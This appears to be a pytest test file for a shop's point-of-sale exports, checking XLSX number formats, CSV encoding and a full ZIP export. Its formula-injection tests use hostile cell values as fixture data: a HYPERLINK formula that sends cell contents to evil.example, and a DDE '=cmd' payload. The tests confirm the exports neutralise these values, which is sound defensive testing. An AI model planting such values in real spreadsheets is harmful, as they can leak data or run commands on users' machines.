"""Report tables to XLSX (real numbers, money format) and CSV (UTF-8 with BOM), and the full ZIP export."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal as D

import pytest
from helpers import photo_bytes
from openpyxl import load_workbook
from sqlalchemy import text

from mamakilla_pos.domain.payments import Tender
from mamakilla_pos.services import analytics, catalogue, exports, history, photos
from mamakilla_pos.services.actors import SYSTEM_ID
from mamakilla_pos.services.analytics import Cancelled, Period
from mamakilla_pos.services.exports import MONEY_FORMAT, Column, Table
from mamakilla_pos.services.refunds import RefundLine, RefundRequest, refund
from mamakilla_pos.services.sales import LineRequest, SaleRequest, record_sale
from mamakilla_pos.store.base import Base

DAY = datetime(2026, 3, 10, 11, 0)
PERIOD = Period(date(2026, 3, 1), date(2026, 3, 31))


@pytest.fixture
def sold(shop):  # type: ignore[no-untyped-def]
    """Three sales and a refund in March."""
    store = shop.store
    first = record_sale(
        store,
        SaleRequest(
            (LineRequest("BAG001", 2), LineRequest("CAS001")),
            (Tender("card", D("120.00")),),
            created_at=DAY,
            user_id=SYSTEM_ID,
        ),
    )
    record_sale(
        store,
        SaleRequest((LineRequest("PUR001"),), (Tender("yape", D("22.55"), "1"),), created_at=DAY, user_id=SYSTEM_ID),
    )
    record_sale(
        store, SaleRequest((LineRequest("KEY001", 3),), (Tender("cash", D("20")),), created_at=DAY, user_id=SYSTEM_ID)
    )
    line = history.get_sale(store, first.number).lines[1]
    refund(
        store, RefundRequest(first.number, (RefundLine(line.id, 1),), method="card", created_at=DAY, user_id=SYSTEM_ID)
    )
    return store


def sheet_rows(sheet) -> dict[str, list[object]]:  # type: ignore[no-untyped-def]
    """First column → the row's cells, headings excluded."""
    return {row[0].value: row for row in sheet.iter_rows(min_row=2)}


def test_xlsx_holds_real_numbers_with_the_money_format(sold):
    report = analytics.period_report(sold, PERIOD)
    book = load_workbook(io.BytesIO(exports.period_xlsx(report, "Mama Killa", active="product")))
    assert book.sheetnames[0] == "Informe"
    assert book.active.title == "Por producto"
    assert {"Por día", "Por producto", "Por artesana", "Por método de pago", "Stock a precio de venta"} <= set(
        book.sheetnames
    )
    products = book["Por producto"]
    headings = [c.value for c in products[1]]
    assert headings[:4] == ["Producto", "Categoría", "Unidades", "Bruto"]
    rows = sheet_rows(products)
    bag = rows["Bolso bordado"]
    cells = dict(zip(headings, bag, strict=True))
    for title, amount in (("Bruto", D("90.00")), ("Neto", D("90.00")), ("Participación artesanas", D("40.50"))):
        cell = cells[title]
        assert cell.data_type == "n", title
        assert isinstance(cell.value, int | float)
        assert D(str(cell.value)).quantize(D("0.01")) == amount
        assert cell.number_format == MONEY_FORMAT
    assert cells["Unidades"].value == 2 and cells["Unidades"].data_type == "n"
    case = dict(zip(headings, rows["Cartuchera Ñusta"], strict=True))
    assert case["Devoluciones"].value == 30 and case["Unidades"].value == 0
    total = dict(zip(headings, rows["Total"], strict=True))
    assert total["Neto"].font.bold
    assert D(str(total["Neto"].value)) == report.summary.net
    days = book["Por día"]
    march_10 = next(r for r in days.iter_rows(min_row=2) if r[0].value == datetime(2026, 3, 10))
    assert march_10[0].number_format == "dd/mm/yyyy"
    summary = sheet_rows(book["Resumen"])
    share = summary["Participación de las artesanas"]
    assert share[3].number_format == "0.0%" and share[3].data_type == "n"
    assert D(str(share[3].value)) == report.summary.share_ratio.quantize(D("0.0001"))


def test_csv_has_a_bom_the_accents_and_plain_amounts(sold):
    report = analytics.period_report(sold, PERIOD)
    tables = {t.key: t for t in exports.period_tables(report)}
    data = exports.csv_bytes(tables["product"])
    assert data.startswith(b"\xef\xbb\xbf")
    content = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    assert rows[0] == [
        "Producto",
        "Categoría",
        "Unidades",
        "Bruto",
        "Descuentos",
        "Devoluciones",
        "Neto",
        "Participación artesanas",
    ]
    by_name = {r[0]: r for r in rows[1:]}
    assert by_name["Cartuchera Ñusta"][1:] == ["Cartucheras", "0", "30.00", "0.00", "30.00", "0.00", "0.00"]
    assert by_name["Monedero de cuero"][6] == "22.55"
    assert by_name["Total"][6] == f"{report.summary.net:.2f}"


def test_a_table_retitled_for_the_screen_keeps_its_values():
    table = Table("t", "T", (Column("a", "A"), Column("b", "B", "money")), (("x", D("1.50")),))
    other = table.retitled({"b": "Importe"}, "Otra")
    assert [c.title for c in other.columns] == ["A", "Importe"] and other.title == "Otra"
    assert exports.csv_bytes(other).decode("utf-8-sig").splitlines() == ["A,Importe", "x,1.50"]


def test_full_export_has_one_csv_per_table_with_every_row(sold, tmp_path):
    bag = catalogue.find_item(sold, "BAG001")
    photo = photos.add_photo(sold, photos.Owner("product", bag.product_id), photo_bytes(300, 300), user_id=SYSTEM_ID)
    target = tmp_path / "todo.zip"
    progress: list[tuple[int, int]] = []
    result = exports.export_all(sold, target, lambda d, t: progress.append((d, t)) or True)
    assert result.path == target and target.exists()
    archive = zipfile.ZipFile(target)
    tables = [t.name for t in Base.metadata.sorted_tables]
    assert sorted(n for n in archive.namelist() if n.endswith(".csv")) == sorted(f"{t}.csv" for t in tables)
    with sold.engine.connect() as conn:
        for table in tables:
            count = conn.execute(text(f"SELECT COUNT(*) FROM {table}")).scalar_one()
            raw = archive.read(f"{table}.csv")
            assert raw.startswith(b"\xef\xbb\xbf"), table
            rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
            assert len(rows) - 1 == count == result.tables[table], table
    sales = list(csv.DictReader(io.StringIO(archive.read("sales.csv").decode("utf-8-sig"))))
    assert "total" in sales[0] and "total_cents" not in sales[0]
    with sold.engine.connect() as conn:
        cents = dict(conn.execute(text("SELECT number, total_cents FROM sales")).all())
    assert {s["number"]: s["total"] for s in sales} == {n: f"{D(c) / 100:.2f}" for n, c in cents.items()}
    users = archive.read("users.csv").decode("utf-8-sig").splitlines()[0].split(",")
    assert "pin_hash" not in users
    listed = list(csv.DictReader(io.StringIO(archive.read("photos.csv").decode("utf-8-sig"))))
    assert [(row["id"], row["product_id"]) for row in listed] == [(str(photo.id), str(bag.product_id))]
    assert "tile" not in listed[0] and "large" not in listed[0]  # no picture bytes in a spreadsheet
    products = archive.read("products.csv").decode("utf-8-sig")
    assert "Cartuchera Ñusta" in products and "22.55" in products
    assert "LEEME.txt" in archive.namelist()
    assert progress[-1][0] == progress[-1][1] == result.rows


def test_a_cancelled_export_leaves_no_file(sold, tmp_path):
    folder = tmp_path / "out"
    folder.mkdir()
    with pytest.raises(Cancelled):
        exports.export_all(sold, folder / "todo.zip", lambda done, total: done == 0)
    assert list(folder.iterdir()) == []


def test_write_bytes_replaces_the_file_whole(tmp_path):
    path = tmp_path / "a.csv"
    exports.write_bytes(path, b"one")
    exports.write_bytes(path, b"two")
    assert path.read_bytes() == b"two"
    assert [p.name for p in tmp_path.iterdir()] == ["a.csv"]


def test_sheet_names_are_valid_and_unique():
    taken: set[str] = set()
    names = [exports._sheet_name(t, taken) for t in ("Por día", "Por día", "A/B: ¿?", "x" * 40)]
    assert names[0] == "Por día" and names[1] != names[0]
    assert all(len(n) <= 31 and not set("[]:*?/\\") & set(n) for n in names)


# -- cells a spreadsheet would run as formulas ------------------------------------------------------

DANGEROUS = ('=HYPERLINK("http://evil.example/?"&A1,"Ver")', "+51 984 000 111", "-2 bolsos", "@SUM(A1:A9)")


@pytest.fixture
def dangerous(shop):  # type: ignore[no-untyped-def]
    """Products, a category and a maker whose names start like formulas, sold and partly refunded."""
    from mamakilla_pos.services import catalogue

    store = shop.store
    codes = []
    for n, name in enumerate(DANGEROUS):
        new = catalogue.NewItem(name, "=cmd|' /C calc'!A0", D("10.00"), (("@Rosa Quispe", 1),), f"EVIL{n}")
        codes.append(catalogue.add_item(store, new).code)
    sale = record_sale(
        store,
        SaleRequest(
            tuple(LineRequest(c) for c in codes), (Tender("card", D("40.00")),), created_at=DAY, user_id=SYSTEM_ID
        ),
    )
    line = history.get_sale(store, sale.number).lines[0]
    refund(
        store, RefundRequest(sale.number, (RefundLine(line.id, 1),), method="card", created_at=DAY, user_id=SYSTEM_ID)
    )
    return store


def test_xlsx_stores_formula_like_text_as_text_and_negative_numbers_as_numbers(dangerous):
    report = analytics.period_report(dangerous, PERIOD)
    data = exports.period_xlsx(report, '=HYPERLINK("http://evil.example")', active="product")
    book = load_workbook(io.BytesIO(data))
    assert book["Informe"]["A2"].value == '=HYPERLINK("http://evil.example")'
    assert book["Informe"]["A2"].data_type == "s"
    products = sheet_rows(book["Por producto"])
    for name in DANGEROUS:
        cell = products[name][0]
        assert cell.value == name and cell.data_type == "s", name
        assert cell.quotePrefix, name
    assert products[DANGEROUS[0]][1].value.startswith("=cmd") and products[DANGEROUS[0]][1].data_type == "s"
    # No cell of any sheet is a formula, in the file itself.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name), name
    table = Table(
        "t",
        "T",
        (Column("what", "Qué"), Column("units", "Unidades", "int"), Column("amount", "Importe", "money")),
        (("-ajuste", -3, D("-12.50")),),
    )
    cells = sheet_rows(load_workbook(io.BytesIO(exports.xlsx_bytes([table])))["T"])["-ajuste"]
    assert cells[0].data_type == "s"
    assert (cells[1].value, cells[1].data_type) == (-3, "n")
    assert (D(str(cells[2].value)), cells[2].data_type) == (D("-12.50"), "n")


def test_csv_prefixes_formula_like_text_with_a_quote_but_not_negative_numbers(dangerous):
    table = Table(
        "t",
        "T",
        (Column("what", "Qué"), Column("units", "Unidades", "int"), Column("amount", "Importe", "money")),
        tuple((text, -3, D("-12.50")) for text in (*DANGEROUS, "\tTAB", "\rCR", "normal")),
    )
    rows = list(csv.reader(io.StringIO(exports.csv_bytes(table).decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == [*(f"'{t}" for t in DANGEROUS), "'\tTAB", "'\rCR", "normal"]
    assert {(r[1], r[2]) for r in rows[1:]} == {("-3", "-12.50")}
    report = analytics.period_report(dangerous, PERIOD)
    products = {t.key: t for t in exports.period_tables(report)}["product"]
    names = [r[0] for r in csv.reader(io.StringIO(exports.csv_bytes(products).decode("utf-8-sig")))]
    assert {f"'{t}" for t in DANGEROUS} <= set(names)


def test_zip_export_prefixes_formula_like_text_but_keeps_negative_numbers(dangerous, tmp_path):
    archive = zipfile.ZipFile(exports.export_all(dangerous, tmp_path / "todo.zip").path)

    def rows(table: str) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(archive.read(f"{table}.csv").decode("utf-8-sig"))))

    names = {r["name"] for r in rows("products")}
    assert {f"'{t}" for t in DANGEROUS} <= names
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
    assert "'@Rosa Quispe" in {r["name"] for r in rows("makers")}
    assert "'=cmd|' /C calc'!A0" in {r["name"] for r in rows("categories")}
    assert "-1" in {r["quantity"] for r in rows("stock_movements")}
    reversals = [r["amount"] for r in rows("share_entries") if r["kind"] == "reversal"]
    assert reversals == ["-4.50"]
    for table in archive.namelist():
        if table.endswith(".csv"):
            for row in csv.reader(io.StringIO(archive.read(table).decode("utf-8-sig"))):
                assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), (table, row)


def test_a_makers_units_are_her_part_in_tenths(sold):
    """2 bags made 2 : 1: Rosa's part is 1.3 bags, Ana's 0.7; with Rosa's purse, 2.3 for her."""
    report = analytics.period_report(sold, PERIOD)
    book = load_workbook(io.BytesIO(exports.period_xlsx(report, "Mama Killa")))
    makers = book["Por artesana"]
    headings = [c.value for c in makers[1]]
    rows = {name: dict(zip(headings, row, strict=True)) for name, row in sheet_rows(makers).items()}
    assert headings[1] == "Unidades (su parte)"
    assert (rows["Rosa Quispe"]["Unidades (su parte)"].value, rows["Ana Huamán"]["Unidades (su parte)"].value) == (
        2.3,
        0.7,
    )
    assert rows["Rosa Quispe"]["Unidades (su parte)"].number_format == "#,##0.0"
    assert D(str(rows["Total"]["Bruto"].value)) == D("142.55")  # bags 90.00 + purse 22.55 + case 30.00, once each
    table = next(t for t in exports.period_tables(report) if t.key == "maker")
    csv_text = exports.csv_bytes(table).decode("utf-8-sig")
    assert "Rosa Quispe,2.3," in csv_text and "Ana Huamán,0.7," in csv_text
